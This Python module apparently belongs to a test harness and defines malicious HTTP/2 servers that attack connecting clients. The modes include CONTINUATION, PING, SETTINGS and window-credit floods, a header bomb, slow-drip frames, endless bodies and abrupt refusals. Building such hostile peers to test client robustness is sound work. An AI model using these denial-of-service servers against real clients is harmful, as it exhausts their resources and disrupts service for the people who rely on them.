"""Servers of HTTP/2 that attack their clients, frame by frame."""
from clients import discards_answers
from http2_clients import (
    CONTINUATION, DATA, END_HEADERS, HEADERS, LONG_FIELD, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame)
from http_peers import listens

PUSH_PROMISE, GOAWAY = 5, 7
OK = b"\x88"
EARLY_HINTS = b"\x08\x03103"
REFUSED_STREAM = b"\0\0\0\7"


class Frames:
    """The frames of a client, after its preface."""

    def __init__(self, connection):
        self.connection = connection
        connection.read(24)
        connection.send(frame(SETTINGS))

    def next(self):
        head = self.connection.read(9)
        payload = self.connection.read(int.from_bytes(head[:3], "big"))
        return head[3], int.from_bytes(head[5:9], "big"), payload

    def request(self):
        """The stream of the next request."""
        while True:
            kind, stream, _ = self.next()
            if kind == HEADERS:
                return stream


def head(stream, flags=END_HEADERS, block=OK):
    return frame(HEADERS, flags, stream, block)


def floods(make_start, make_block):
    """Answers a request with a beginning and a block that is repeated as fast as possible; reads what the client answers."""

    def talk(connection):
        stream = Frames(connection).request()
        discards_answers(connection)
        connection.send(make_start(stream))
        connection.flood(make_block(stream))

    return talk


def drips(make_start, make_block):
    """As `floods`, a byte at a time."""

    def talk(connection):
        stream = Frames(connection).request()
        connection.send(make_start(stream))
        connection.drip(make_block(stream), 0.02)

    return talk


def body(size):
    """A body without an end in frames of a size, as fast as the client's windows permit."""

    def talk(connection):
        frames = Frames(connection)
        stream = frames.request()
        connection.send(head(stream))
        # Those that every client has at least, and what it adds.
        windows = {0: 65_535, stream: 65_535}
        while True:
            while min(windows.values()) >= size:
                count = max(1, min(min(windows.values()), 1 << 16) // size)
                connection.send(frame(DATA, 0, stream, b"x" * size) * count)
                windows = {number: left - count * size for number, left in windows.items()}
            kind, number, payload = frames.next()
            if kind == WINDOW_UPDATE and number in windows:
                windows[number] += int.from_bytes(payload, "big")

    return talk


def refuses(connection):
    """Refuses each request."""
    frames = Frames(connection)
    while True:
        connection.send(frame(RST_STREAM, 0, frames.request(), REFUSED_STREAM))


def goes_away(connection):
    """Ends each connection as if the request had not arrived."""
    Frames(connection).request()
    connection.send(frame(GOAWAY, payload=bytes(8)))
    while True:
        connection.read_more()


def is_silent(connection):
    """Sends nothing at all, not even settings."""
    while True:
        connection.read_more()


MODES = {
    "http2-body": body(16_384),
    "http2-one-byte-frames": body(1),
    "http2-empty-frames": floods(head, lambda stream: frame(DATA, 0, stream)),
    "http2-interim-responses": floods(lambda stream: b"", lambda stream: head(stream, block=EARLY_HINTS)),
    "http2-continuations": floods(
        lambda stream: head(stream, 0), lambda stream: frame(CONTINUATION, 0, stream, b"\x00\x01a\x01b")),
    "http2-header-bomb": floods(
        lambda stream: head(stream, block=EARLY_HINTS + LONG_FIELD),
        lambda stream: head(stream, block=EARLY_HINTS + b"\xbe" * 16_000)),
    "http2-pings": floods(head, lambda stream: frame(PING, payload=bytes(8))),
    "http2-settings": floods(head, lambda stream: frame(SETTINGS)),
    "http2-priorities": floods(head, lambda stream: frame(PRIORITY, 0, stream + 2, bytes(5))),
    "http2-credit": floods(head, lambda stream: frame(WINDOW_UPDATE, payload=b"\0\0\0\1")),
    "http2-pushes": floods(
        head, lambda stream: frame(PUSH_PROMISE, END_HEADERS, stream, b"\0\0\0\2" + b"\x82\x86\x84\x01\x09localhost")),
    "http2-body-drip": drips(head, lambda stream: frame(DATA, 0, stream, b"x")),
    "http2-head-drip": drips(
        lambda stream: head(stream, 0), lambda stream: frame(CONTINUATION, 0, stream, b"\x00\x01a\x01b")),
    "http2-refusals": refuses,
    "http2-goodbyes": goes_away,
    "http2-silence": is_silent,
}
MODES = {name: listens(lambda talk=talk: talk) for name, talk in MODES.items()}
